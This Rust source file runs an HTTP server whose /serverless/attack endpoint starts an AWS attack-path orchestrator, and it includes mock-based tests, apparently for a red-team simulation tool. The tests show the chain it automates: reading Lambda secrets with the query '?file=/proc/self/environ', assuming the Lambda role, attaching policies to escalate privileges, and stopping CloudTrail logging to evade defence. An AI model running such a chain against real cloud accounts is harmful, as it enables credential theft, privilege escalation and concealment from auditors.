//! HTTP trigger for the attack path

use anyhow::{Context, Result};
use axum::{
    extract::State,
    http::StatusCode,
    response::{IntoResponse, Response},
    routing::get,
    Json, Router,
};
use std::net::SocketAddr;
use std::sync::Arc;
use tower_http::cors::CorsLayer;
use tower_http::trace::TraceLayer;
use tracing::{error, info};

use crate::agents::AttackPathOrchestrator;
use crate::config::EngineConfig;

#[derive(Clone)]
pub struct AppState {
    pub orchestrator: Arc<AttackPathOrchestrator>,
    pub config: Arc<EngineConfig>,
}

pub fn router(state: AppState) -> Router {
    Router::new()
        .route("/health", get(health_check))
        .route("/serverless/attack", get(serverless_attack))
        .layer(CorsLayer::permissive())
        .layer(TraceLayer::new_for_http())
        .with_state(state)
}

/// Bind and serve until the process exits
pub async fn serve(state: AppState) -> Result<()> {
    let addr = SocketAddr::from(([0, 0, 0, 0], state.config.port));
    let listener = tokio::net::TcpListener::bind(addr)
        .await
        .with_context(|| format!("Failed to bind {}", addr))?;

    info!("Serverless Attack Path server listening on {}", addr);
    axum::serve(listener, router(state)).await?;

    Ok(())
}

async fn health_check() -> Json<serde_json::Value> {
    Json(serde_json::json!({
        "status": "healthy",
        "service": "attack-path-engine",
        "version": env!("CARGO_PKG_VERSION")
    }))
}

async fn serverless_attack(State(state): State<AppState>) -> Response {
    info!("Received request for /serverless/attack");

    match state
        .orchestrator
        .run_attack_path(&state.config.region, state.config.trail_hint())
        .await
    {
        Ok(report) => Json(report).into_response(),
        Err(e) => {
            error!("Attack path failed: {}", e);
            (
                StatusCode::INTERNAL_SERVER_ERROR,
                Json(serde_json::json!({
                    "status": "error",
                    "message": e.to_string()
                })),
            )
                .into_response()
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::agents::attack_path::testing::{
        Call, CloudBehaviour, MockCloud, MockLeakSource, SCENARIO_LEAK,
    };
    use crate::agents::attack_path::WorkflowTiming;
    use std::time::Duration;

    fn config() -> EngineConfig {
        EngineConfig {
            region: "us-east-1".to_string(),
            agw_url: "http://agw.internal/".to_string(),
            leak_query: "?file=/proc/self/environ".to_string(),
            trail_name: None,
            port: 0,
        }
    }

    async fn spawn(cloud: &MockCloud, leak: MockLeakSource) -> String {
        let config = config();
        let orchestrator = AttackPathOrchestrator::new(
            Arc::new(leak),
            Arc::new(cloud.clone()),
            config.leak_source_url(),
        )
        .with_timing(WorkflowTiming {
            propagation_delay: Duration::ZERO,
            suppression_window: Duration::ZERO,
        });

        let state = AppState {
            orchestrator: Arc::new(orchestrator),
            config: Arc::new(config),
        };

        let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
        let addr = listener.local_addr().unwrap();
        tokio::spawn(async move {
            axum::serve(listener, router(state)).await.unwrap();
        });

        format!("http://{}", addr)
    }

    #[tokio::test]
    async fn test_health() {
        let cloud = MockCloud::new(CloudBehaviour::default());
        let base = spawn(&cloud, MockLeakSource::serving(SCENARIO_LEAK)).await;

        let body: serde_json::Value = reqwest::get(format!("{}/health", base))
            .await
            .unwrap()
            .json()
            .await
            .unwrap();

        assert_eq!(body["status"], "healthy");
    }

    #[tokio::test]
    async fn test_attack_returns_report() {
        let cloud = MockCloud::new(CloudBehaviour {
            trails: vec!["org-trail".to_string()],
            ..Default::default()
        });
        let base = spawn(&cloud, MockLeakSource::serving(SCENARIO_LEAK)).await;

        let response = reqwest::get(format!("{}/serverless/attack", base)).await.unwrap();
        assert_eq!(response.status(), reqwest::StatusCode::OK);

        let body: serde_json::Value = response.json().await.unwrap();
        assert_eq!(body["AssumedLambdaRoleName"], "LambdaExecRole");
        assert_eq!(
            body["EndpointURLTargeted"],
            "http://agw.internal/?file=/proc/self/environ"
        );
        assert_eq!(body["DefensiveEvasion"], "org-trail");
        assert!(body["EscalatePrivileges"]
            .as_str()
            .unwrap()
            .starts_with("attaching:"));
    }

    #[tokio::test]
    async fn test_attack_unreachable_leak_is_server_error() {
        let cloud = MockCloud::new(CloudBehaviour::default());
        let base = spawn(&cloud, MockLeakSource::unreachable()).await;

        let response = reqwest::get(format!("{}/serverless/attack", base)).await.unwrap();
        assert_eq!(response.status(), reqwest::StatusCode::INTERNAL_SERVER_ERROR);

        let body: serde_json::Value = response.json().await.unwrap();
        assert_eq!(body["status"], "error");
        assert_eq!(cloud.count(|c| matches!(c, Call::AttachRolePolicy { .. })), 0);
        assert_eq!(cloud.count(|c| matches!(c, Call::StopLogging(_))), 0);
    }
}
